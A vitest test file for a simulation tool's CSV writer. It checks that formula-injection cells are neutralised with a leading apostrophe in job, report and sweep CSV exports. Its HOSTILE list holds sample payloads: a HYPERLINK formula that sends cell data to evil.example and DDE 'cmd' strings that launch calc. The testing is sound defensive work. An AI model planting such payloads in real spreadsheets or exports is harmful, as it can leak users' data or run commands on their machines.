import { parse } from 'csv-parse/sync';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Job } from '../../src/model/job.js';
import { reportCsvFiles } from '../../src/report/csv-export.js';
import { csvTable, defuseFormula } from '../../src/report/csv-writer.js';
import { JOB_CSV_HEADER, jobCsvRow } from '../../src/report/job-csv.js';
import { buildReport } from '../../src/report/report-model.js';
import { loadSweep } from '../../src/sweep/load-sweep.js';
import { runSweep } from '../../src/sweep/run-sweep.js';
import { mmcText, read, tmp, writeSweep } from '../sweep/support.js';
import { asJson, clusterScenario, run } from './report-fixtures.js';

/** Cells a spreadsheet would run as formulas (OWASP CSV injection), one per trigger character. */
const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", '-1+1', "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=1+1'];

/** Parses CSV text with csv-parse (a real parser, not our own output read back by eye). */
const rows = (text: string): string[][] => parse(text, { relax_column_count: false });

/** A cell is safe when a spreadsheet would not start a formula with it. */
const safe = (cell: string): boolean => !/^[=+\-@\t\r]/.test(cell);

describe('one CSV writer: quoting by csv-stringify, the formula guard in one place', () => {
  it('neutralises every hostile text cell with a leading apostrophe and keeps its text', () => {
    const parsed = rows(
      csvTable(
        ['name'],
        HOSTILE.map((h) => [h]),
      ),
    );
    expect(parsed.slice(1).map((r) => r[0])).toEqual(HOSTILE.map((h) => `'${h}`));
    expect(parsed.every((r) => r.every(safe))).toBe(true);
  });

  it('writes numbers as numbers: a negative number stays a negative number, NaN is empty', () => {
    const parsed = parse(csvTable(['a', 'b', 'c', 'd', 'e'], [[-1.5, -0, 1e-7, NaN, -Infinity]]), { cast: true }) as unknown[][];
    expect(parsed[1]).toEqual([-1.5, 0, 1e-7, '', '-Infinity']);
    // the same characters as text are guarded: only numbers pass through raw
    expect(rows(csvTable(['a'], [['-1.5']]))[1]).toEqual(["'-1.5"]);
  });

  it('quotes commas, quotes and line breaks so they round-trip; booleans, null and objects have one spelling', () => {
    const tricky = ['a,b', 'say "hi"', 'two\nlines', 'ok'];
    const parsed = rows(csvTable(['w', 'x', 'y', 'z', 'flag', 'none', 'obj'], [[...tricky, true, null, { k: [1, 2] }]]));
    expect(parsed).toEqual([
      ['w', 'x', 'y', 'z', 'flag', 'none', 'obj'],
      [...tricky, 'true', '', '{"k":[1,2]}'],
    ]);
  });

  it('guards header cells too (they are user-chosen names)', () => {
    expect(rows(csvTable(['=cmd', 'ok'], []))).toEqual([["'=cmd", 'ok']]);
    expect(defuseFormula('plain')).toBe('plain');
  });
});

describe('every CSV the product writes goes through the guard', () => {
  it('run --jobs-csv: workload and pool names, and the job ids of a trace', () => {
    const job = { id: 7, submit: 10, start: 12.5, end: 20, devices: 8 } as Job;
    const text = JOB_CSV_HEADER + HOSTILE.map((h) => jobCsvRow(1, h, h, { ...job, source: { id: h, submit: 599_850 } }, 'completed')).join('');
    const parsed = rows(text);
    expect(parsed[0]).toEqual(['replication', 'job', 'workload', 'pool', 'submit', 'start', 'end', 'devices', 'wait', 'run_time', 'outcome', 'trace_job', 'trace_submit']);
    expect(parsed.slice(1).map((r) => r[2])).toEqual(HOSTILE.map((h) => `'${h}`));
    expect(parsed.slice(1).map((r) => r.slice(11))).toEqual(HOSTILE.map((h) => [`'${h}`, '599850']));
    expect(parsed.slice(1).map((r) => r.slice(4, 10))).toEqual(HOSTILE.map(() => ['10', '12.5', '20', '8', '2.5', '7.5']));
    expect(parsed.flat().every(safe)).toBe(true);
  });

  it('report --csv: results, KPIs, assumptions and chart tables', () => {
    const results = HOSTILE.slice(0, 2).map((name, i) => asJson(run({ ...clusterScenario(6 + 2 * i, { replications: 1, horizon: '2 days' }), name })));
    const model = buildReport(
      results.map((result) => ({ result })),
      { command: 'simulate report a.json b.json' },
    );
    const files = reportCsvFiles(model, results);
    expect(files.length).toBeGreaterThan(3);
    for (const f of files) {
      const parsed = rows(f.content);
      expect(parsed.flat().filter((c) => !safe(c) && Number.isNaN(Number(c)))).toEqual([]);
    }
    const labels = rows(files.find((f) => f.name === 'results.csv')!.content)
      .slice(1)
      .map((r) => r[1]);
    expect(labels).toEqual(HOSTILE.slice(0, 2).map((h) => `'${h}`));
  });

  it('the sweep results CSV: parameter values and names from the sweep file', async () => {
    const dir = tmp('simulate-csv-');
    const values = HOSTILE.slice(0, 4)
      .map((h) => JSON.stringify(h))
      .join(', ');
    const text = mmcText((t) => t.replace(/^parameters:[\s\S]*?^constraints:/m, `parameters:\n  description: [${values}]\nconstraints:`));
    const out = join(dir, 'out');
    await runSweep(loadSweep(writeSweep(dir, 'hostile.yaml', text), { replications: 1 }), { outDir: out, workers: 0 });
    const parsed = rows(read(join(out, 'sweep.csv')));
    expect(parsed[0]![1]).toBe('description');
    expect(parsed.slice(1).map((r) => r[1])).toEqual(HOSTILE.slice(0, 4).map((h) => `'${h}`));
    // metric columns are numbers, negative or not, and stay numbers
    expect(parsed.slice(1).every((r) => r.slice(-2).every((c) => c === '' || Number.isFinite(Number(c))))).toBe(true);
  });
});
